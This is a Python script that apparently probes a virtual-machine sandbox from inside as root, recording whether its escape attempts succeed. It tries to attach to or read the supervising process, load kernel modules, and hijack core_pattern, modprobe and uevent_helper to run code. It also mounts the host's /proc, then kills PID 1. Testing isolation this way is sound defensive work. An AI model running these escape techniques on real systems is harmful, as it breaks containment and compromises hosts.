"""What root of a guest tries to answer instead of the agent: run in the guest, never natively.

    forging.py FOLDER           all attempts; their outcomes go to FOLDER/attempts and FOLDER/by-*
    forging.py FOLDER KIND ...  as a program that the kernel started, for a core file as an example

It uses nothing but Python's own library: the guest has no other.
"""

from __future__ import annotations

import ctypes
import json
import mmap
import os
import signal
import socket
import stat
import sys
import time
from collections.abc import Callable
from pathlib import Path

KERNEL = Path("/proc/sys/kernel")
HELPER_S = 8.0
AGENT = 1
ATTACH = 16
BUFFER_BYTES = 4096
CALLS = {
    "ptrace": 101, "iopl": 172, "init_module": 175, "kexec_load": 246, "setns": 308,
    "process_vm_readv": 310, "pidfd_open": 434, "pidfd_getfd": 438,
}  # fmt: skip
"""Numbers of system calls on x86-64."""
_libc = ctypes.CDLL(None, use_errno=True)

Attempts = dict[str, str]


def main() -> None:
    folder = Path(sys.argv[1])
    if not in_a_guest():
        raise SystemExit("not in a guest: nothing is tried")
    if len(sys.argv) > 2:
        return save(folder / f"by-{sys.argv[2]}", attempts())
    found = attempts()
    found.update(for_good())
    save(folder / "attempts", found)
    for kind, ask in HELPERS.items():
        ask(folder, kind)
    save(folder / "in-a-user-namespace", in_user_namespace())
    os.kill(AGENT, signal.SIGKILL)
    os.kill(AGENT, signal.SIGSTOP)
    return None


def in_a_guest() -> bool:
    text = Path("/proc/cpuinfo").read_text()
    return "User Mode Linux" in text or "QEMU" in text


def save(path: Path, found: Attempts) -> None:
    status = Path("/proc/self/status").read_text()
    capabilities = {
        line.split()[0]: line.split()[1] for line in status.splitlines() if "Cap" in line
    }
    fresh = path.with_suffix(".new")
    fresh.write_text(json.dumps({"attempts": found, "capabilities": capabilities}))
    fresh.rename(path)


def attempts() -> Attempts:
    """All attempts by name: `done`, or the reason for the failure."""
    tried: dict[str, Callable[[], object]] = {
        "ptrace": lambda: call("ptrace", ATTACH, AGENT, 0, 0),
        "read its memory": read_memory,
        "take a descriptor": take_descriptor,
        "open its memory": lambda: os.open(f"/proc/{AGENT}/mem", os.O_RDONLY),
        "list its mappings": lambda: Path(f"/proc/{AGENT}/maps").read_bytes()[0],
        "open its descriptors": open_descriptors,
        "enter its mounts": enter_mounts,
        "make the channel": make_channel,
        "open the channel": open_channel,
        "physical memory": lambda: os.open("/dev/mem", os.O_RDONLY),
        "ports": lambda: call("iopl", 3),
        "a module": lambda: call("init_module", b"x", 1, b""),
        "another kernel": lambda: call("kexec_load", 0, 0, 0, 0),
        "the machine's process": machine_process,
    }
    return {name: outcome(attempt) for name, attempt in tried.items()}


def outcome(attempt: Callable[[], object]) -> str:
    try:
        attempt()
    except (OSError, LookupError) as error:
        return str(error) or "nothing there"
    return "done"


def call(name: str, *arguments: int | bytes | ctypes.Array[ctypes.c_char]) -> int:
    found: int = _libc.syscall(ctypes.c_long(CALLS[name]), *map(_long, arguments))
    if found < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return found


def _long(value: object) -> object:
    return ctypes.c_long(value) if isinstance(value, int) else value


def read_memory() -> None:
    buffer = ctypes.create_string_buffer(BUFFER_BYTES)
    own = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), BUFFER_BYTES)
    # Any address will do: permission is checked first.
    far = (ctypes.c_ulong * 2)(0x400000, BUFFER_BYTES)
    call("process_vm_readv", AGENT, bytes(own), 1, bytes(far), 1, 0)


def take_descriptor() -> None:
    agent = call("pidfd_open", AGENT, 0)
    for number in range(16):
        try:
            call("pidfd_getfd", agent, number, 0)
        except OSError as error:
            if error.errno != 9:  # EBADF: allowed, but there is none
                raise
        else:
            return
    raise LookupError


def open_descriptors() -> None:
    for number in range(16):
        path = f"/proc/{AGENT}/fd/{number}"
        try:
            os.open(path, os.O_RDWR | os.O_NONBLOCK)
        except FileNotFoundError:
            continue
        return
    raise LookupError


def enter_mounts() -> None:
    call("setns", os.open(f"/proc/{AGENT}/ns/mnt", os.O_RDONLY), 0)


def channel_numbers() -> list[tuple[int, int]]:
    numbers = [(4, 64)]  # ttyS0
    for port in Path("/sys/class/virtio-ports").glob("*/dev"):
        major, minor = port.read_text().strip().split(":")
        numbers.append((int(major), int(minor)))
    return numbers


def make_channel() -> None:
    for major, minor in channel_numbers():
        os.mknod(f"/tmp/channel-{major}", 0o600 | stat.S_IFCHR, os.makedev(major, minor))


def open_channel() -> None:
    """Open the channel, also in another mount of the folder of devices."""
    Path("/tmp/dev").mkdir(exist_ok=True)
    _libc.mount(b"dev", b"/tmp/dev", b"devtmpfs", 0, None)
    numbers = channel_numbers()
    for folder in ("/dev", "/tmp/dev"):
        for path in Path(folder).iterdir():
            status = path.lstat()
            device = (os.major(status.st_rdev), os.minor(status.st_rdev))
            # Where the console is a serial line too, what is written there is a log.
            if stat.S_ISCHR(status.st_mode) and device in numbers and not is_console(*device):
                os.open(path, os.O_RDWR | os.O_NONBLOCK)
                return
    raise LookupError


def is_console(major: int, minor: int) -> bool:
    return "QEMU" in Path("/proc/cpuinfo").read_text() and (major, minor) == (4, 64)


def machine_process() -> None:
    """Through the host's tree, read the memory of the process that runs this machine."""
    Path("/tmp/host").mkdir(exist_ok=True)
    if _libc.mount(b"none", b"/tmp/host", b"hostfs", 0, b"/proc") != 0:
        return uncovered()
    for number in ("self", "1", "2", "3"):
        path = Path("/tmp/host", number, "mem")
        if path.exists():
            os.open(path, os.O_RDWR)
            return None
    raise LookupError


def uncovered() -> None:
    """Read what lies below `/proc`, past the page cache, in a child with mounts of its own."""
    child = os.fork()
    if child == 0:
        new_mounts, detach = 0x20000, 2
        code = 1
        if _libc.unshare(new_mounts) == 0 and _libc.umount2(b"/proc", detach) == 0:
            for number in ("1", "2", "3"):
                maps = Path("/proc", number, "maps")
                if maps.exists():
                    descriptor = os.open(maps, os.O_RDONLY | os.O_DIRECT)
                    code = 0 if os.readv(descriptor, [mmap.mmap(-1, BUFFER_BYTES)]) else code
        os._exit(code)
    if os.waitpid(child, 0)[1] != 0:
        raise LookupError


def for_good() -> Attempts:
    """Try to regain what was taken away, after changing the read-only mounts."""
    for path in (b"/proc/sys", b"/sys"):
        read_write = 0x20 | 0x1000  # MS_REMOUNT, MS_BIND
        _libc.mount(None, path, None, read_write, None)
    found = {}
    for name, value, wanted in (
        ("usermodehelper/bset", "4294967295 511", "0"),
        ("usermodehelper/inheritable", "4294967295 511", "0"),
        ("modules_disabled", "0", "1"),
    ):
        path = KERNEL / name
        reason = outcome(lambda path=path, value=value: path.write_text(value))  # type: ignore[misc]
        kept = path.read_text().split()[0] == wanted
        found[f"set {name} back"] = (
            reason if kept and reason != "done" else f"{reason}, kept {kept}"
        )
        if kept and reason == "done":
            found[f"set {name} back"] = "without effect"
    return found


def helper(folder: Path, kind: str) -> Path:
    """A program for the kernel to start."""
    path = folder / f"helper-{kind}"
    path.write_text(
        f"#!/bin/sh\nexec {sys.executable} {Path(__file__).resolve()} {folder} {kind}\n"
    )
    path.chmod(0o755)
    return path


def awaited(folder: Path, kind: str) -> None:
    until = time.monotonic() + HELPER_S
    while time.monotonic() < until and not (folder / f"by-{kind}").exists():
        time.sleep(0.05)


def by_core(folder: Path, kind: str) -> None:
    import resource

    (KERNEL / "core_pattern").write_text(f"|{helper(folder, kind)}")
    child = os.fork()
    if child == 0:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        os.kill(os.getpid(), signal.SIGSEGV)
    os.waitpid(child, 0)
    awaited(folder, kind)


def by_module(folder: Path, kind: str) -> None:
    (KERNEL / "modprobe").write_text(str(helper(folder, kind)))
    for family in (12, 13, 23):  # whose protocols are modules
        try:
            socket.socket(family, socket.SOCK_DGRAM)
        except OSError:
            continue
    _libc.mount(b"none", b"/tmp", b"nosuchfilesystem", 0, None)
    awaited(folder, kind)


def by_event(folder: Path, kind: str) -> None:
    path = Path("/sys/kernel/uevent_helper")
    if path.exists():
        path.write_text(str(helper(folder, kind)))
        Path("/sys/class/mem/null/uevent").write_text("add")
        awaited(folder, kind)


HELPERS: dict[str, Callable[[Path, str], None]] = {
    "core": by_core,
    "module": by_module,
    "event": by_event,
}


def in_user_namespace() -> Attempts:
    """Attempts as root of a user namespace, with all capabilities in it."""
    new_user, new_mounts = 0x10000000, 0x20000
    if _libc.unshare(new_user | new_mounts) < 0:
        return {"unshare": os.strerror(ctypes.get_errno())}
    Path("/proc/self/setgroups").write_text("deny")
    Path("/proc/self/uid_map").write_text("0 0 1")
    return attempts()


if __name__ == "__main__":
    main()
